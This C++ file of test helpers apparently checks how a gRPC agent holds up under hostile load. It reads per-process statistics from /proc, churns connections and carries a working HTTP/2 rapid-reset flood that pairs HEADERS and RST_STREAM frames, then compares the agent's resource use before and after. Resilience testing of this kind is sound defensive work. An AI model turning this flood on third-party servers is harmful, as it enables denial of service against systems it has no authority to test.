#include "tests/testing/hostile.h"

#include <arpa/inet.h>
#include <netdb.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cstring>
#include <ctime>
#include <filesystem>
#include <fstream>

#include "absl/strings/match.h"
#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_split.h"

namespace fabric::testing {

ProcStats ReadProcStats(pid_t pid) {
  ProcStats st;
  std::ifstream in(absl::StrCat("/proc/", pid, "/status"));
  std::string line;
  auto value = [](const std::string& l) {
    int64_t v = -1;
    std::vector<std::string> parts = absl::StrSplit(l, absl::ByAnyChar(" \t"), absl::SkipEmpty());
    if (parts.size() < 2 || !absl::SimpleAtoi(parts[1], &v)) return int64_t{-1};
    return v;
  };
  while (std::getline(in, line)) {
    if (absl::StartsWith(line, "VmRSS:")) st.rss_kb = value(line);
    if (absl::StartsWith(line, "VmHWM:")) st.hwm_kb = value(line);
    if (absl::StartsWith(line, "Threads:")) st.threads = static_cast<int>(value(line));
  }
  std::error_code ec;
  int fds = 0;
  for (auto it = std::filesystem::directory_iterator(absl::StrCat("/proc/", pid, "/fd"), ec);
       !ec && it != std::filesystem::directory_iterator(); it.increment(ec)) {
    ++fds;
  }
  if (!ec) st.fds = fds;
  clockid_t clock;
  timespec ts{};
  if (clock_getcpuclockid(pid, &clock) == 0 && clock_gettime(clock, &ts) == 0) {
    st.cpu_s = static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) / 1e9;
  } else {
    std::ifstream stat(absl::StrCat("/proc/", pid, "/stat"));
    std::string all((std::istreambuf_iterator<char>(stat)), std::istreambuf_iterator<char>());
    // Fields after the command (which may hold spaces): utime and stime are the 12th and 13th.
    if (size_t close = all.rfind(')'); close != std::string::npos) {
      std::vector<std::string> f = absl::StrSplit(all.substr(close + 2), ' ');
      int64_t ut = 0, stime = 0;
      if (f.size() > 12 && absl::SimpleAtoi(f[11], &ut) && absl::SimpleAtoi(f[12], &stime)) {
        st.cpu_s = static_cast<double>(ut + stime) / static_cast<double>(sysconf(_SC_CLK_TCK));
      }
    }
  }
  double run_ns = 0;
  bool any = false;
  for (auto it = std::filesystem::directory_iterator(absl::StrCat("/proc/", pid, "/task"), ec);
       !ec && it != std::filesystem::directory_iterator(); it.increment(ec)) {
    std::ifstream sched(it->path() / "schedstat");
    double ns = 0;
    if (sched >> ns) {
      run_ns += ns;
      any = true;
    }
  }
  if (any) st.live_threads_cpu_s = run_ns / 1e9;
  return st;
}

int ConnectTo(const std::string& target) {
  if (absl::StartsWith(target, "unix:")) {
    const std::string path = target.substr(5);
    sockaddr_un sa{};
    if (path.size() >= sizeof(sa.sun_path)) return -1;
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) return -1;
    sa.sun_family = AF_UNIX;
    std::memcpy(sa.sun_path, path.data(), path.size());
    if (connect(fd, reinterpret_cast<sockaddr*>(&sa), sizeof(sa)) != 0) {
      close(fd);
      return -1;
    }
    return fd;
  }
  const size_t colon = target.rfind(':');
  if (colon == std::string::npos) return -1;
  std::string host = target.substr(0, colon);
  if (host.size() > 1 && host.front() == '[') host = host.substr(1, host.size() - 2);
  addrinfo hints{};
  hints.ai_socktype = SOCK_STREAM;
  addrinfo* res = nullptr;
  if (getaddrinfo(host.c_str(), target.substr(colon + 1).c_str(), &hints, &res) != 0) return -1;
  int fd = socket(res->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd >= 0 && connect(fd, res->ai_addr, res->ai_addrlen) != 0) {
    close(fd);
    fd = -1;
  }
  freeaddrinfo(res);
  return fd;
}

int ChurnConnections(const std::string& target, int n) {
  int connected = 0;
  for (int i = 0; i < n; ++i) {
    int fd = ConnectTo(target);
    if (fd < 0) continue;
    ++connected;
    close(fd);
  }
  return connected;
}

std::string H2Frame(uint8_t type, uint8_t flags, uint32_t stream, std::string_view payload) {
  std::string f;
  const size_t n = payload.size();
  f.push_back(static_cast<char>((n >> 16) & 0xff));
  f.push_back(static_cast<char>((n >> 8) & 0xff));
  f.push_back(static_cast<char>(n & 0xff));
  f.push_back(static_cast<char>(type));
  f.push_back(static_cast<char>(flags));
  for (int shift = 24; shift >= 0; shift -= 8) {
    f.push_back(static_cast<char>((stream >> shift) & 0xff));
  }
  return f.append(payload);
}

std::string H2RstStream(uint32_t stream) {
  return H2Frame(0x3, 0, stream, std::string_view("\0\0\0\x08", 4));  // CANCEL
}

namespace {

// An HPACK "literal header field without indexing, new name" (RFC 7541 6.2.2); every name and
// value here is shorter than 127 bytes, so each length is one byte.
void Literal(std::string* out, const std::string& name, const std::string& value) {
  out->push_back('\0');
  out->push_back(static_cast<char>(name.size()));
  out->append(name);
  out->push_back(static_cast<char>(value.size()));
  out->append(value);
}

bool SendAll(int fd, const std::string& bytes) {
  size_t off = 0;
  while (off < bytes.size()) {
    ssize_t w = send(fd, bytes.data() + off, bytes.size() - off, MSG_NOSIGNAL);
    if (w <= 0) return false;
    off += static_cast<size_t>(w);
  }
  return true;
}

}  // namespace

absl::StatusOr<int> RapidReset(const std::string& target, int n, const std::string& path) {
  int fd = ConnectTo(target);
  if (fd < 0) return absl::UnavailableError(absl::StrCat("cannot connect to ", target));
  timeval tv{5, 0};  // A server that stops reading ends the attack instead of hanging it.
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
  std::string headers;
  Literal(&headers, ":method", "POST");
  Literal(&headers, ":scheme", "http");
  Literal(&headers, ":path", path);
  Literal(&headers, ":authority", "localhost");
  Literal(&headers, "content-type", "application/grpc");
  Literal(&headers, "te", "trailers");
  std::string batch = std::string(kH2Preface) + H2Frame(0x4, 0, 0, "");
  int sent = 0;
  char sink[65536];
  for (int i = 0; i < n; ++i) {
    const uint32_t stream = 1 + 2 * static_cast<uint32_t>(i);
    batch += H2Frame(0x1, 0x4, stream, headers);  // HEADERS, END_HEADERS
    batch += H2RstStream(stream);
    if (batch.size() < 16384 && i + 1 < n) continue;
    if (!SendAll(fd, batch)) break;
    sent = i + 1;
    batch.clear();
    // Drain what the server says (SETTINGS, GOAWAY) so that its writes never block it.
    while (recv(fd, sink, sizeof(sink), MSG_DONTWAIT) > 0) {
    }
  }
  close(fd);
  return sent;
}

ResetOutcome RapidResetAgainst(pid_t agent, const std::string& target, int n) {
  ResetOutcome o;
  o.before = ReadProcStats(agent);
  o.sent = RapidReset(target, n, "/fabric.v1.FabricAgent/Ping");
  o.after = ReadProcStats(agent);
  return o;
}

}  // namespace fabric::testing
